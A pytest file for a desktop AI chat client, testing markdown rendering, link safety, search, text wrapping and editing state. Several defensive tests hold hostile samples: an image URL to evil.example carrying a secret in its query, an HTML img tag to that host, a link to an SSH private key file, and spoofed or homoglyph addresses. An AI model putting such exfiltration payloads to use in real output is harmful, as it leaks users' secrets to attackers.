"""Markdown, links, colours and pieces as values. None of it needs a display."""

import random

import pytest

from copilot.desktop.colouring import Colouring
from copilot.desktop.entries import EntryFold, PersonEntry, entries
from copilot.desktop.finding import Finding, Hit
from copilot.desktop.heights import Heights
from copilot.desktop.highlight import runs
from copilot.desktop.links import host_of, open_link, opens, whole
from copilot.desktop.markdown import Block, Code, Heading, Paragraph, Rule, Run, Table, blocks
from copilot.desktop.marking import cut, shared, spans
from copilot.desktop.panels.card_state import CardState
from copilot.desktop.panels.card_text import Wrapped
from copilot.desktop.pieces import CODE_PIECE, LONGEST, Pieces
from copilot.desktop.view_state import ViewState, apply
from copilot.vocabulary import events as e
from copilot.vocabulary.messages import Branch, Discussion, Message, Text
from copilot.vocabulary.values import Project


def plain(words: str) -> Run:
    return Run(words, "plain")


MARKDOWN = """# Title

Some **bold**, ~~old~~ and `code`.

1. one
2. two
   - deep
     - deeper

- [ ] to do
- [x] done

> said
> > twice

```py
x = 1
```

---

|a|b|
|-|-|
|1|`2`|
"""


def test_markdown_becomes_blocks() -> None:
    sentence = (
        plain("Some "),
        Run("bold", "bold"),
        plain(", "),
        Run("old", "struck"),
        plain(" and "),
        Run("code", "code"),
        plain("."),
    )
    assert blocks(MARKDOWN) == (
        Heading((plain("Title"),), 1),
        Paragraph(sentence),
        Paragraph((plain("one"),), 1, "1."),
        Paragraph((plain("two"),), 1, "2."),
        Paragraph((plain("deep"),), 2, "◦"),
        Paragraph((plain("deeper"),), 3, "▪"),
        Paragraph((plain("to do"),), 1, "task"),
        Paragraph((plain("done"),), 1, "done"),
        Paragraph((plain("said"),), quotes=1),
        Paragraph((plain("twice"),), quotes=2),
        Code("x = 1", "py"),
        Rule(),
        Table((((plain("a"),), (plain("b"),)), ((plain("1"),), (Run("2", "code"),)))),
    )


def test_an_answer_that_breaks_off_in_a_code_block_still_shows() -> None:
    assert blocks("Look:\n```python\nprint(1)") == (
        Paragraph((plain("Look:"),)),
        Code("print(1)", "python"),
    )


def test_code_in_a_list_and_an_item_that_is_only_a_list() -> None:
    assert blocks("- a\n\n  ```\n  x\n  ```\n- - b") == (
        Paragraph((plain("a"),), 1, "•"),
        Code("x", "", 1),
        Paragraph((), 1, "•"),
        Paragraph((plain("b"),), 2, "◦"),
    )


def test_links_are_links_and_html_is_text() -> None:
    assert blocks("[here](https://example.org) <b>x</b> https://a.org/b.") == (
        Paragraph(
            (
                Run("here", "link", "https://example.org"),
                plain(" <b>x</b> "),
                Run("https://a.org/b", "link", "https://a.org/b"),
                plain("."),
            )
        ),
    )


@pytest.mark.parametrize("address", ["file:///home/u/.ssh/id_rsa", "smb://host/x", "ssh://host", "copilot:x"])
def test_other_schemes_are_text_with_their_address_to_be_read(address: str) -> None:
    """Hostile case exf-005."""
    assert not opens(address)
    (paragraph,) = blocks(f"[a]({address})")
    assert isinstance(paragraph, Paragraph)
    assert all(run.style != "link" for run in paragraph.runs)
    assert address in "".join(run.words for run in paragraph.runs)
    with pytest.raises(ValueError, match="no address"):
        open_link(address)


def test_an_image_is_a_link_that_names_its_host() -> None:
    """Hostile case exf-001: nothing is fetched, a click asks."""
    address = "https://evil.example/p.png?d=BASE64SECRET"
    assert blocks(f"![x]({address})") == (Paragraph((Run("[image: x, evil.example]", "link", address),)),)


def test_html_of_a_model_is_words() -> None:
    """Hostile case exf-003."""
    source = "<img src=//evil.example/x> <link rel=preconnect href=...>"
    assert blocks(source) == (Paragraph((plain(source),)),)


def test_an_address_shows_every_character_of_itself() -> None:
    assert whole("https://exаmple.org/\u202etxt") == "https://ex\\u{430}mple.org/\\u{202e}txt"
    assert host_of("https://good.org@evil.org/x") == "evil.org"
    assert not opens("https:///x")
    assert opens("mailto:a@b.org")


ANSWER = """Words of an answer, some of them **bold**.

- one
- two

```python
x = 1

y = 2
```

| a | b |
|---|---|
| 1 | 2 |

1. first

2. second

> quoted

"""


def drawn(pieces: Pieces) -> tuple[Block, ...]:
    """All blocks, the pieces of long code joined again."""
    found: list[Block] = []
    for number in range(len(pieces)):
        for block in pieces.blocks(number):
            before = found[-1] if found else None
            if isinstance(block, Code) and block.part in ("middle", "last") and isinstance(before, Code):
                found[-1] = Code(f"{before.text}\n{block.text}", before.language)
            else:
                found.append(
                    Code(block.text, block.language, block.depth) if isinstance(block, Code) else block
                )
    return tuple(found)


LONG = ANSWER * 30 + "```sh\n" + "echo some words of a script\n\n" * 300 + "```\n\n" + ANSWER * 5


def test_pieces_say_what_the_whole_says() -> None:
    pieces = Pieces(LONG)
    assert len(pieces) > 20
    spans_of = [(p.start, p.end) for p in (pieces.piece(n) for n in range(len(pieces)))]
    assert [start for start, _ in spans_of] == [0, *(end for _, end in spans_of[:-1])]
    assert spans_of[-1][1] == len(LONG)
    assert max(end - start for start, end in spans_of) <= 2 * LONGEST
    assert drawn(pieces) == blocks(LONG)


@pytest.mark.parametrize("seed", range(3))
def test_an_answer_that_grows_says_the_same_and_keeps_its_pieces(seed: int) -> None:
    chance = random.Random(seed)
    growing, at = Pieces(), 0
    while at < len(LONG):
        at += chance.randint(1, 60)
        before = [growing.piece(n) for n in range(len(growing) - 1)]
        growing.take(LONG[:at])
        assert [growing.piece(n) for n in range(len(before))] == before
    assert drawn(growing) == blocks(LONG)


def test_a_line_without_an_end_a_long_table_and_a_link_defined_elsewhere() -> None:
    endless = Pieces("word " * 5_000)
    assert len(endless) > 8
    rows = "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 1_000
    table = Pieces(rows)
    read = [block for n in range(len(table)) for block in table.blocks(n)]
    assert all(isinstance(block, Table) for block in read)
    assert sum(len(block.rows) - 1 for block in read if isinstance(block, Table)) == 1_000
    far = Pieces("See [it][x].\n\n" + "Other words.\n\n" * 200 + "[x]: https://example.org\n")
    (first, *_) = far.blocks(0)
    assert isinstance(first, Paragraph)
    assert Run("it", "link", "https://example.org") in first.runs


def test_long_code_knows_its_whole_and_where_its_pieces_begin() -> None:
    code = "".join(f"line {n}\n" for n in range(600))
    pieces = Pieces(f"```text\n{code}```\n\nend\n")
    parts = [pieces.piece(n) for n in range(len(pieces)) if pieces.piece(n).code >= 0]
    assert pieces.code(0) == code.removesuffix("\n")
    assert all(part.end - part.start <= CODE_PIECE + 20 for part in parts)
    for number, part in enumerate(parts):
        (block,) = pieces.blocks(number)
        assert isinstance(block, Code)
        assert block.text.split("\n")[0] == f"line {pieces.first_line(part)}"
    assert [pieces.blocks(n)[0] for n in (len(pieces) - 1,)] == [Paragraph((plain("end"),))]


def test_heights_are_summed_and_found() -> None:
    heights, chance = Heights(), random.Random(1)
    heights.fill(100, 10.0)
    each = [10.0] * 100
    for _ in range(50):
        index = chance.randrange(100)
        each[index] = chance.random() * 90
        heights.set(index, each[index])
    heights.append(5.0)
    each.append(5.0)
    assert heights.total == pytest.approx(sum(each))
    for _ in range(50):
        y = chance.random() * heights.total
        index = heights.at(y)
        assert heights.top(index) <= y < heights.top(index) + heights[index]
    heights.cut(40)
    assert (len(heights), heights.total) == (40, pytest.approx(sum(each[:40])))
    assert heights.at(1e9) == 40


def test_words_are_found_whatever_their_case_and_over_runs() -> None:
    assert spans("Straße STRASSE straße", "STRAßE") == [(0, 6), (15, 21)]
    assert spans("İx İX", "x") == [(1, 2), (4, 5)]
    assert spans("aaa", "aa") == [(0, 2)]
    assert cut([("on", 1), ("e t", 2), ("wo", 3)], "one") == [
        ("on", 1, True),
        ("e", 2, True),
        (" t", 2, False),
        ("wo", 3, False),
    ]


def test_code_is_coloured_in_slices_and_goes_on_where_it_grows() -> None:
    now = [0.0]
    colours = Colouring(lambda: now[0])
    code = 'x = """\n' + "words of a text\n" * 200 + '"""\n'
    assert colours.lines(code, "python", 0, 3) is None
    assert colours.coming(code, "python")
    now[0] = 1.0
    while colours.tick():
        pass
    assert not colours.coming(code, "python")
    assert colours.lines(code, "python", 1, 1) == [[("words of a text", "code_string")]]
    grown = code + "y = 1"
    assert colours.lines(grown, "python", 202, 1) == runs("y = 1", "python")
    assert colours.lines("words", "klingon", 0, 1) is None


def person(number: int, words: str) -> PersonEntry:
    parts = (Text(text=words),)
    return PersonEntry(Message(id=f"m{number}", parent=None, role="user", parts=parts, at=float(number)))


def test_a_search_goes_on_in_slices_and_tells_how_far_it_is() -> None:
    now = [0.0]

    def ticks() -> float:
        now[0] += 1.0
        return now[0]

    finding = Finding(ticks)
    finding.begin("", [])
    assert (finding.running, finding.tick(), finding.hits) == (False, False, [])
    cards = [person(n, "a Word" if n % 100 == 7 else "nothing") for n in range(200)]
    finding.begin("word", list(cards))
    assert finding.tick()
    assert (finding.running, finding.done, finding.of) == (True, 64, 200)
    while finding.tick():
        pass
    assert finding.hits == [Hit(7, "m7", 2), Hit(107, "m107", 2)]


def test_cards_that_did_not_change_are_the_same_objects() -> None:
    said = tuple(
        Message(id=f"m{n}", parent=f"m{n - 1}" if n else None, role="user", parts=(Text(text="x"),), at=n)
        for n in range(50)
    )
    discussion = Discussion(messages=said, branches=(Branch(name="main", tip="m49"),))
    opened = e.ProjectOpened(at=0, worker="w", project=Project(name="p", base_dir="/", discussion=discussion))
    state = apply(ViewState(), opened)
    fold = EntryFold()
    before = fold(state)
    more = Message(id="m50", parent="m49", role="user", parts=(Text(text="y"),), at=50)
    after = fold(apply(state, e.MessageKept(at=1, worker="w", branch="main", message=more)))
    assert len(after) == 51
    assert all(a is b for a, b in zip(before, after, strict=False))
    assert after == entries(apply(state, e.MessageKept(at=1, worker="w", branch="main", message=more)))


def test_an_edit_that_escape_gives_up_leaves_its_draft() -> None:
    state = CardState()
    assert state.begin_edit("m1", "old") == "old"
    state.type("m1", "old and new", 1.0)
    state.type("m1", "old", 9.0)  # the library puts back what stood there at first
    state.revert("m1", 9.1)
    state.leave_edit("m1", keep=True)
    assert state.begin_edit("m1", "old") == "old and new"
    state.leave_edit("m1", keep=False)
    assert state.begin_edit("m1", "old") == "old"


def test_folding_all_and_one() -> None:
    state = CardState()
    state.fold_all(folded=True)
    assert state.folded("a")
    assert state.fold("a", folded=False)
    assert not state.fold("a", folded=False)
    assert (state.folded("a"), state.folded("b")) == (False, True)


def test_what_is_copied_out_of_wrapped_text_is_as_it_was_written() -> None:
    source = "one two three four five\nsix\n" + "x" * 25
    wrapped = Wrapped(source, lambda line: min(len(line), 10))
    assert all(len(line) <= 10 for line in wrapped.text.split("\n"))
    assert wrapped.unwrapped(wrapped.text) == source
    assert wrapped.unwrapped("two \nthree ") == "two three "
    assert wrapped.unwrapped("five\nsix") == "five\nsix"
    assert wrapped.unwrapped("from elsewhere") == "from elsewhere"


@pytest.mark.parametrize(
    ("pieces", "needle", "wanted"),
    [
        ((), "lock", []),
        (("lock", "Lock"), "lock", [[0], [1]]),
        (("two", "words", "two words"), "two words", [[0, 1], [2]]),
        (("self.lock.lock", "lo", "ck"), "lock", [[0], [0], [1, 2]]),
        (("aaaa", "aa"), "aa", [[0], [0], [1]]),
        (("lock", "lo"), "lock", [[0], [1]]),
    ],
)
def test_pieces_that_were_drawn_are_shared_among_matches(
    pieces: tuple[str, ...], needle: str, wanted: list[list[int]]
) -> None:
    assert shared(pieces, needle) == wanted
